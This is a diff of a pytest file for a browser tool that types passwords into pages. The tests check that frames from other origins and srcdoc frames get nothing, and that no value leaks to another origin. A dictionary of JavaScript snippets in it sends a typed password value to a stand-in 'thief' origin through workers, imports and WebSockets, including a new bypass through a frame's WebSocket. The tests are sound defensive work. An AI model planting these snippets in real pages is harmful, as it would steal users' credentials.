@@ -47,6 +47,7 @@ async def typed(window: PortalBrowser, pages: Pages, body: str, base: str = "") 
 
 
 HELD = "<input type=password data-is=it>"
+SRCDOC = "<iframe srcdoc='{held}'></iframe>"
 
 
 @here
@@ -113,20 +114,38 @@ async def test_nothing_is_typed(
     assert "" == await window.page.locator("[data-is=it]").evaluate("el => el.value")
 
 
+@pytest.mark.parametrize("body", ["<form method=post>{held}</form>", "{held}", SRCDOC])
 @here
 async def test_a_frame_of_another_origin_gets_nothing(
-    window: PortalBrowser, pages: Pages, thief: Pages
+    window: PortalBrowser, pages: Pages, thief: Pages, body: str
 ) -> None:
-    """Where the frame stands counts, not the page around it."""
-    thief.at["/f"] = f"<form method=post>{HELD}</form>"
+    """Where the frame stands counts, not the page around it; one without an address stands where
+    the frame around it does.
+    """
+    thief.at["/f"] = body.format(held=HELD)
     pages.at["/"] = f"<iframe src='{thief.origin}/f'></iframe>"
     await window.goto(f"{pages.origin}/")
-    field = window.page.frame_locator("iframe").locator("[data-is=it]")
+    frame = window.page.frame_locator("iframe")
+    inside = frame.frame_locator("iframe") if body == SRCDOC else frame
+    field = inside.locator("[data-is=it]")
     await field.wait_for()
     with pytest.raises(PortalError):
         async with window.on("Authentification"), window.guarded():
             await window.type_secret(field, Secret(WORD))
     assert "" == await field.evaluate("el => el.value")
+
+
+@here
+async def test_a_frame_without_an_address_is_its_page_s(
+    window: PortalBrowser, pages: Pages
+) -> None:
+    """The page's own, where the page may be typed in."""
+    pages.at["/"] = SRCDOC.format(held=HELD)
+    await window.goto(f"{pages.origin}/")
+    field = window.page.frame_locator("iframe").locator("[data-is=it]")
+    async with window.on("Authentification"), window.guarded():
+        await window.type_secret(field, Secret(WORD))
+    assert WORD == await field.evaluate("el => el.value")
 
 
 LEAKS = {
@@ -146,6 +165,8 @@ LEAKS = {
     "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${u}', { mode: 'no-cors' })`])))",
     "module": "import(u).catch(() => 0)",
     "new socket": "new WebSocket(u.replace('http', 'ws'))",
+    # a frame that was there before has none of the document's policy
+    "socket of a frame": "new frames[0].WebSocket(u.replace('http', 'ws'))",
 }
 
 
@@ -158,7 +179,7 @@ async def test_nothing_leaves_for_another_origin(
     thief.asked.clear()
     script = f"const v = this.value, u = '{thief.origin}/?' + encodeURIComponent(v); {LEAKS[name]}"
     held = f'<input type=password data-is=it oninput="{script}">'
-    pages.at["/"] = f"<!doctype html><body><form method=post>{held}</form>"
+    pages.at["/"] = f"<!doctype html><body><iframe></iframe><form method=post>{held}</form>"
     await window.goto(f"{pages.origin}/")
     async with window.on("Authentification"), window.guarded():
         await window.type_secret(window.page.locator("[data-is=it]"), Secret(WORD))
@@ -183,6 +204,18 @@ async def test_a_secret_is_typed_behind_the_guard_only(window: PortalBrowser, pa
     await window.goto(f"{pages.origin}/")
     with pytest.raises(AssertionError, match="guard"):
         await window.type_secret(window.page.locator("[data-is=it]"), Secret(WORD))
+
+
+@pytest.mark.parametrize("name", TALKATIVE)
+@here
+async def test_nothing_is_typed_where_playwright_would_tell(
+    window: PortalBrowser, pages: Pages, monkeypatch: pytest.MonkeyPatch, name: str
+) -> None:
+    """Whoever sets it later in the process."""
+    monkeypatch.setenv(name, "x")
+    with pytest.raises(AssertionError, match=name):
+        await typed(window, pages, f"<form method=post>{HELD}</form>")
+    assert "" == await window.page.locator("[data-is=it]").evaluate("el => el.value")
 
 
 def test_what_makes_playwright_talk_is_gone_before_it_is_imported() -> None:
